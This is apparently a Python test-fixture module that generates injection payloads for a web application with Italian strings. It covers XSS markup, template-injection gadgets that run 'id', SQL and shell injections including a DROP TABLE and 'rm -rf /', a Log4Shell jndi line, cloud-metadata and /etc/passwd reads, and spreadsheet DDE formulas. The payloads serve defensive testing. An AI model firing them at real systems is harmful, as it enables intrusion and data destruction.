"""Hostile texts that are code somewhere: in a page, an address, a template, a paper, a shell."""

from collections.abc import Iterator

# What a script that ran would leave behind; the browser pass looks for it.
PWNED = "window.__pwned=1"


def elements() -> Iterator[str]:
    """Markup where a page writes text."""
    yield from _scripts()
    yield from _fetches()
    yield f"<details open ontoggle={PWNED}>x</details>"
    yield f"<input autofocus onfocus={PWNED}>"
    yield f"<math><mi xlink:href=javascript:{PWNED}>x"
    yield f"\uff1cscript\uff1e{PWNED}\uff1c/script\uff1e"
    yield f"&lt;script&gt;{PWNED}&lt;/script&gt;"
    yield f"<noscript><p title='</noscript><img src=x onerror={PWNED}>'>"
    yield "<div hx-get='/accesso/uscita/' hx-trigger=load>x</div>"
    yield "<b>grassetto</b> e <i>corsivo"


def _scripts() -> Iterator[str]:
    yield f"<script>{PWNED}</script>"
    yield f"</title><script>{PWNED}</script>"
    yield f"</textarea><script>{PWNED}</script>"
    yield f"</template><script>{PWNED}</script>"
    yield f"</script><svg onload={PWNED}>"
    yield f"</style><img src=x onerror={PWNED}>"
    yield f"--><img src=x onerror={PWNED}>"
    yield f"<![CDATA[<script>{PWNED}</script>]]>"
    yield f"<img src=x onerror={PWNED}>"
    yield f"<svg/onload={PWNED}>"
    yield f"<video><source onerror={PWNED}>"
    yield f"<scr<script>ipt>{PWNED}</scr</script>ipt>"
    yield f"<SCRIPT\n>{PWNED}</SCRIPT\t>"


def _fetches() -> Iterator[str]:
    yield f'<iframe srcdoc="<script>{PWNED}</script>">'
    yield "<iframe src=//evil.example></iframe>"
    yield "<base href=//evil.example/>"
    yield "<meta http-equiv=refresh content='0;url=//evil.example'>"
    yield "<link rel=stylesheet href=//evil.example/x.css>"
    yield "<style>@import '//evil.example/x.css';</style>"
    yield "<form action=//evil.example><button>Invia</button></form>"
    yield "<object data=//evil.example></object><embed src=//evil.example>"


def attributes() -> Iterator[str]:
    """Markup where a page writes a value between quotes."""
    yield f'"><script>{PWNED}</script>'
    yield f"'><script>{PWNED}</script>"
    yield f'" onmouseover="{PWNED}" x="'
    yield f"' onfocus='{PWNED}' autofocus='"
    yield f"x onclick={PWNED}"
    yield f'" autofocus onfocus={PWNED} "'
    yield f"`onmouseover={PWNED}`"
    yield '" style="background:url(//evil.example)'
    yield '" hx-get="/accesso/uscita/" hx-trigger="load'
    yield '" data-confirm="" formaction="//evil.example'
    yield "\"'>&quot;&#39;&gt;"
    yield "/>"
    yield '\\" onerror=alert(1) \\'


def scripts() -> Iterator[str]:
    """Code where a script or a style would read text."""
    yield f"';{PWNED};//"
    yield f'";{PWNED};//'
    yield f"\\';{PWNED};//"
    yield f"${{{PWNED}}}"
    yield f"`;{PWNED};`"
    yield f"</script><script>{PWNED}//"
    yield "\\u003cscript\\u003e"
    yield '{"__proto__":{"polluted":1}}'
    yield "__proto__"
    yield "constructor.prototype"
    yield f"\u2028{PWNED}\u2029"
    yield "a\u2028b\u2029c"
    yield "*/{}body{background:url(//evil.example)}/*"
    yield "expression(alert(1))"


def addresses() -> Iterator[str]:
    """Addresses where a page, or an answer, writes a link."""
    yield f"javascript:{PWNED}"
    yield f"JaVaScRiPt&#58;{PWNED}"
    yield f"java\tscript:{PWNED}"
    yield f"\x01javascript:{PWNED}"
    yield f"data:text/html,<script>{PWNED}</script>"
    yield "data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4="
    yield "vbscript:msgbox(1)"
    yield "//evil.example/"
    yield "///evil.example/"
    yield "/\\evil.example/"
    yield "\\\\evil.example\\c$"
    yield "https:evil.example"
    yield "https://evil.example/"
    yield "http://testserver@evil.example/"
    yield "http://testserver.evil.example/"
    yield "/accesso/uscita/"
    yield "/%0d%0aSet-Cookie:pwned=1"
    yield "/?next=//evil.example"
    yield "file:///etc/passwd"
    yield "http://[::1"
    yield "http://169.254.169.254/latest/meta-data/"


def templates() -> Iterator[str]:
    """Template languages: Django, Jinja and docx, others."""
    yield "{{ 7*7 }}"
    yield "{{ request.user.password }}"
    yield "{{ settings.SECRET_KEY }}"
    yield "{% load static %}{% debug %}"
    yield "{% include '/etc/passwd' %}"
    yield "{% csrf_token %}"
    yield "{# commento #}"
    yield "{% endblock %}{% block content %}"
    yield "{% verbatim %}"
    yield "{{''.__class__.__mro__[1].__subclasses__()}}"
    yield "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield "{%p for x in range(9) %}{{ x }}{%p endfor %}"
    yield "{{r x}}{%tr if 1 %}"
    yield "<%= 7*7 %>"
    yield "#{7*7}"
    yield "${{7*7}}"
    yield "@(7*7)"
    yield "__prefix__ __number__"


def formulas() -> Iterator[str]:
    """What a spreadsheet would calculate."""
    yield "=1+1"
    yield "=cmd|' /C calc'!A0"
    yield '=HYPERLINK("//evil.example","qui")'
    yield '=IMPORTXML("http://evil.example","//a")'
    yield "+1+1"
    yield "-1+1"
    yield "@SUM(1+1)"
    yield "\t=1+1"
    yield "\r=1+1"
    yield "\uff1d1+1"
    yield '"=1+1","x"'
    yield 'a;b,c\td"e\nf'
    yield 'DDE("cmd";"/C calc";"x")'


def typesetting() -> Iterator[str]:
    """Typst, and TeX by the way."""
    yield '#import "/etc/passwd": *'
    yield '#include "letter.typ"'
    yield '#read("/etc/passwd")'
    yield "#sys.inputs.data"
    yield '#eval("1+1")'
    yield '#panic("fermo")'
    yield "#while true {}"
    yield "#let x = 1"
    yield "#[ ]] [[ #{ }} {{ #( ))"
    yield "*grassetto* _corsivo_ $x^2$"
    yield "<etichetta> @etichetta"
    yield "`codice` ```typ #x```"
    yield "= Titolo\n== Sotto\n- punto\n+ numero\n/ voce: testo"
    yield "// commento /* altro */"
    yield '#link("https://evil.example")[qui]'
    yield "https://evil.example/pagina www.evil.example"
    yield "#set page(width: 1cm)"
    yield "~ -- --- ... \\ \\u{202e}"
    yield "#metadata(1) #context counter(page).get()"
    yield '#image("/etc/passwd") #pdf.embed("letter.typ")'
    yield "\\input{/etc/passwd} \\write18{id}"
    yield '"data": {"x": "\\u0000"}, }]'
    yield "\u00ad\u00adsil\u00adla\u00adba"


def commands() -> Iterator[str]:
    """Databases, directories, shells, format strings."""
    yield "' OR '1'='1"
    yield "'; DROP TABLE cases_case; --"
    yield "1) UNION SELECT password FROM permissions_user --"
    yield "\\'; SELECT pg_sleep(9) --"
    yield "%' OR 1=1 /*"
    yield "100% sicuro_ [a-z]"
    yield "*)(uid=*))(|(uid=*"
    yield "admin)(&)"
    yield "; id"
    yield "$(id)"
    yield "`id`"
    yield "| cat /etc/passwd"
    yield "&& rm -rf --no-preserve-root /"
    yield "-rf --help"
    yield "() { :; }; echo"
    yield "%s%s%s%n%x"
    yield "%(task)s %(case)s"
    yield "%d %%"
    yield "{0} {task} {0.__class__}"
    yield "{"
    yield "%"
    yield "\\"
    yield "\\0\\x00\\n\\u0041"
    yield "${jndi:ldap://evil.example/x}"
